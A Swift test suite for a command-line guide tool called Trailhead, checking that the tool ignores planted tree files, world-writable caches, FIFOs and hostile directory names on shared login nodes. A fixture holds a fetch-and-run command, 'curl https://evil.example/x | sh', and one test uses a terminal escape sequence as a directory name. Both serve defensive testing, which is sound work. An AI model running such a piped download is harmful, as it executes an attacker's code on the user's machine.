import Foundation
import Testing
import TrailheadCore

/// The built binary on a login node shared with a hostile co-user: planted layers, a shared
/// cache, FIFOs where files are expected.
struct SharedMachineTests {
    static let plantedLoginNode = """
        format: 1
        id: login-node
        title: PLANTED login node
        description: Replaces the bundled tree.
        start: start
        nodes:
          start:
            title: Run this
            body: Planted.
            commands:
              - run: curl https://evil.example/x | sh
                does: Pwns you.
        """

    static var isRoot: Bool { getuid() == 0 }

    /// Runs under `timeout`, so a command that would block forever fails the test instead of
    /// hanging it. KILL, because the test runner may ignore TERM, and its children inherit that.
    static func run(_ arguments: [String], environment: [String: String] = [:]) throws -> CLIRunner.Outcome {
        try CLIRunner.run(["-s", "KILL", "20", CLIRunner.binary] + arguments, environment: environment, executable: "/usr/bin/timeout")
    }

    /// A layer directory another user can write to, or that belongs to another user, is not
    /// read: the bundled login-node tree stays, and stderr says which directory was ignored.
    @Test(arguments: ["TRAILHEAD_PATH", "XDG_CONFIG_HOME", "XDG_DATA_DIRS"])
    func aLayerOthersCanChangeIsIgnoredWithAWarning(variable: String) throws {
        let base = try CLIRunner.treeDirectory([:])
        let layer = variable == "TRAILHEAD_PATH" ? base + "/layer" : base + "/trailhead/trees"
        try FileManager.default.createDirectory(atPath: layer, withIntermediateDirectories: true)
        try Data(Self.plantedLoginNode.utf8).write(to: URL(fileURLWithPath: layer + "/login-node.yaml"))
        let value = variable == "TRAILHEAD_PATH" ? layer : base
        let environment = [variable: value, "TRAILHEAD_NO_CACHE": "1"]

        let trusted = try Self.run(["list"], environment: environment)
        #expect(trusted.stdout.contains("PLANTED"), "the layer is read while it is the user's own: \(trusted.stderr)")

        chmod(layer, 0o777)
        let open = try Self.run(["list"], environment: environment)
        #expect(open.status == 0)
        #expect(!open.stdout.contains("PLANTED"))
        #expect(open.stdout.contains("Your first day on an HPC login node"))
        #expect(open.stderr.contains("ignoring the trees in \(layer) (from "), "\(open.stderr)")
        #expect(open.stderr.contains("other users can write to it (chmod go-w to trust it)"))

        guard Self.isRoot else { return }
        chmod(layer, 0o755)
        chown(layer, 4242, 4242)
        let foreign = try Self.run(["list"], environment: environment)
        #expect(!foreign.stdout.contains("PLANTED"))
        #expect(foreign.stderr.contains("it belongs to another user (uid 4242)"), "\(foreign.stderr)")
    }

    /// An install owned by a software account (Spack, EasyBuild, a CVMFS publisher): its trees
    /// and its site directory belong to the binary's owner, who could change Trailhead itself,
    /// and are read; a layer of a third account is still refused.
    @Test(.enabled(if: isRoot, "chown needs root"))
    func theAccountThatInstalledTrailheadIsTrusted() throws {
        let prefix = try CLIRunner.treeDirectory([:])
        let fileManager = FileManager.default
        for directory in ["bin", "share/trailhead/trees", "site", "other"] {
            try fileManager.createDirectory(atPath: prefix + "/" + directory, withIntermediateDirectories: true)
        }
        try fileManager.copyItem(atPath: CLIRunner.binary, toPath: prefix + "/bin/trailhead")
        let installed = Self.plantedLoginNode.replacingOccurrences(of: "PLANTED login node", with: "INSTALLED login node")
        try Data(installed.utf8).write(to: URL(fileURLWithPath: prefix + "/share/trailhead/trees/login-node.yaml"))
        try Data(installed.replacingOccurrences(of: "login-node", with: "site-tree").utf8).write(to: URL(fileURLWithPath: prefix + "/site/site-tree.yaml"))
        try Data(installed.replacingOccurrences(of: "login-node", with: "other-tree").utf8).write(to: URL(fileURLWithPath: prefix + "/other/other-tree.yaml"))
        for path in ["", "/bin", "/bin/trailhead", "/share", "/share/trailhead", "/share/trailhead/trees",
                     "/share/trailhead/trees/login-node.yaml", "/site", "/site/site-tree.yaml"] {
            #expect(chown(prefix + path, 4242, 4242) == 0)
        }
        chown(prefix + "/other", 4343, 4343)
        chown(prefix + "/other/other-tree.yaml", 4343, 4343)
        let outcome = try CLIRunner.run(
            ["list"], environment: ["TRAILHEAD_PATH": prefix + "/site:" + prefix + "/other", "TRAILHEAD_NO_CACHE": "1"],
            executable: prefix + "/bin/trailhead")
        #expect(outcome.stdout.contains("INSTALLED login node"), "the install's own trees are read: \(outcome.stderr)")
        #expect(outcome.stdout.contains("site-tree"), "the site directory of the same account is read: \(outcome.stderr)")
        #expect(!outcome.stdout.contains("other-tree"))
        #expect(outcome.stderr.contains("it belongs to another user (uid 4343)"), "\(outcome.stderr)")
    }

    /// A tree file that others can write to, in a directory of the user's own, is not read either.
    @Test func aTreeFileOthersCanChangeIsNotRead() throws {
        let base = try CLIRunner.treeDirectory(["login-node.yaml": Self.plantedLoginNode])
        chmod(base + "/login-node.yaml", 0o666)
        let outcome = try Self.run(["list"], environment: ["TRAILHEAD_PATH": base, "TRAILHEAD_NO_CACHE": "1"])
        #expect(!outcome.stdout.contains("PLANTED"))
        #expect(outcome.stdout.contains("Your first day on an HPC login node"))
    }

    /// A cache directory on a shared path that another user made world-writable is not used:
    /// nothing is read from it or written to it, and stderr says so.
    @Test func aSharedCacheDirectoryIsNotUsed() throws {
        let shared = try CLIRunner.treeDirectory([:])
        let planted = shared + "/trailhead"
        try FileManager.default.createDirectory(atPath: planted, withIntermediateDirectories: true)
        chmod(planted, 0o777)
        let outcome = try Self.run(["show", "login-node/ssh-keygen"], environment: ["XDG_CACHE_HOME": shared])
        #expect(outcome.status == 0)
        #expect(outcome.stderr.contains("not using the cache in \(planted): other users can write to it"), "\(outcome.stderr)")
        #expect(try FileManager.default.contentsOfDirectory(atPath: planted).isEmpty)
    }

    /// FIFOs named like a tree file, like every cache entry and snapshot, and like the progress
    /// file: every command still finishes, and the FIFO tree is reported as not a regular file.
    @Test func fifosWhereFilesAreExpectedHangNothing() throws {
        let trees = try CLIRunner.treeDirectory(["demo.yaml": Self.plantedLoginNode.replacingOccurrences(of: "id: login-node", with: "id: demo")])
        #expect(mkfifo(trees + "/fifo.yaml", 0o644) == 0)
        let home = try CLIRunner.treeDirectory([:])
        let environment = ["XDG_CACHE_HOME": home + "/cache", "XDG_STATE_HOME": home + "/state"]
        // One run fills the cache with entries and a snapshot; each is then replaced by a FIFO.
        _ = try Self.run(["search", "--json", "ssh"], environment: environment)
        let cache = home + "/cache/trailhead"
        let entries = try FileManager.default.contentsOfDirectory(atPath: cache)
        #expect(entries.contains { $0.hasPrefix("tree") } && entries.contains { $0.hasPrefix("search") }, "\(entries)")
        for name in entries {
            unlink(cache + "/" + name)
            #expect(mkfifo(cache + "/" + name, 0o600) == 0)
        }
        try FileManager.default.createDirectory(atPath: home + "/state/trailhead", withIntermediateDirectories: true)
        #expect(mkfifo(home + "/state/trailhead/progress", 0o600) == 0)

        let validate = try Self.run(["validate", trees], environment: environment)
        #expect(validate.status == 1, "\(validate.stdout)")
        #expect(validate.stdout.contains("fifo.yaml:1:1: error: cannot load: not a regular file"), "\(validate.stdout)")
        for arguments in [["list"], ["show", "login-node/ssh-keygen"], ["search", "--json", "ssh"], ["history"], ["list", "--trees", trees]] {
            let outcome = try Self.run(arguments, environment: environment)
            #expect(outcome.status != 137, "\(arguments) hung on a FIFO")
            #expect(outcome.status == 0, "\(arguments): \(outcome.stderr)")
        }
    }

    /// A probe never runs a program from the working directory, whatever PATH holds: a cloned
    /// repository with a script named like a probed command gets nothing run.
    @Test(arguments: ["/usr/bin::/bin", ".:/usr/bin:/bin", "/usr/bin:/bin:"])
    func aProbeNeverRunsTheRepositorysOwnScript(path: String) throws {
        let repository = try CLIRunner.treeDirectory([:])
        let tree = """
            format: 1
            id: repo
            title: Repository guide
            description: A repository's own guide.
            start: start
            nodes:
              start:
                title: Start
                body: Checks a tool.
                probes:
                  - command: repotool
                    version-matches: "1"
            """
        try FileManager.default.createDirectory(atPath: repository + "/.trailhead", withIntermediateDirectories: true)
        try Data(tree.utf8).write(to: URL(fileURLWithPath: repository + "/.trailhead/repo.yaml"))
        try Data("#!/bin/sh\ntouch \"$(dirname \"$0\")/MARK\"\necho 1\n".utf8).write(to: URL(fileURLWithPath: repository + "/repotool"))
        chmod(repository + "/repotool", 0o755)
        let outcome = try CLIRunner.run(["show", "--json", "repo/start"], environment: ["PATH": path, "TRAILHEAD_NO_CACHE": "1"], directory: repository)
        #expect(outcome.status == 0, "\(outcome.stderr)")
        #expect(outcome.stdout.contains("repotool is not on your PATH"), "\(outcome.stdout)")
        #expect(!FileManager.default.fileExists(atPath: repository + "/MARK"))
    }

    /// Under a file-size limit smaller than a cache entry, commands still work and leave no
    /// half-written file: the write fails and is dropped instead of the signal ending the run.
    @Test func aFileSizeLimitBelowAnEntryEndsNothing() throws {
        let home = try CLIRunner.treeDirectory([:])
        // The test runner may ignore SIGXFSZ, and an ignored signal is inherited: put it back first.
        let outcome = try CLIRunner.run(
            ["--default-signal=XFSZ", "/bin/bash", "-c", "ulimit -f 1; exec \"$0\" list", CLIRunner.binary],
            environment: ["XDG_CACHE_HOME": home], executable: "/usr/bin/env")
        #expect(outcome.status == 0, "\(outcome.stderr)")
        #expect(outcome.stdout.contains("login-node"))
        let left = try FileManager.default.contentsOfDirectory(atPath: home + "/trailhead")
        #expect(left.filter { $0.hasSuffix(".tmp") }.isEmpty, "\(left)")
    }

    /// A runaway script's thousands of options are refused at once, not parsed for minutes.
    @Test func thousandsOfArgumentsAreRefusedQuickly() throws {
        let sets = (0..<10_000).flatMap { ["--set", "x\($0)=1"] }
        let outcome = try Self.run(["show", "login-node/ssh-keygen", "--command", "1"] + sets)
        #expect(outcome.status == 2)
        #expect(outcome.stderr == "trailhead: error: 20004 arguments are more than the 1024 Trailhead reads; pass a directory instead of many files\n")
        // The same field again and again (the last value wins): an unknown name would be refused.
        let most = (0..<505).flatMap { ["--set", "comment=me\($0)"] }
        let accepted = try Self.run(["show", "login-node/ssh-keygen", "--command", "1", "--set", "comment=me"] + most)
        #expect(accepted.status == 0, "\(accepted.stderr)")
    }

    /// A directory named with an escape sequence, planted where a layer is read, is named in
    /// the warning but never written raw to the terminal.
    @Test func aHostileDirectoryNameIsShownNotObeyed() throws {
        let base = try CLIRunner.treeDirectory([:])
        let layer = base + "/x\u{1B}]2;PWNED\u{07}y"
        try FileManager.default.createDirectory(atPath: layer, withIntermediateDirectories: true)
        chmod(layer, 0o777)
        let outcome = try Self.run(["list"], environment: ["TRAILHEAD_PATH": layer, "TRAILHEAD_NO_CACHE": "1"])
        #expect(outcome.stderr.contains("ignoring the trees in \(base)/x^[]2;PWNED^Gy (from TRAILHEAD_PATH)"), "\(outcome.stderr.debugDescription)")
        #expect(!(outcome.stdout + outcome.stderr).contains("\u{1B}"))
    }
}
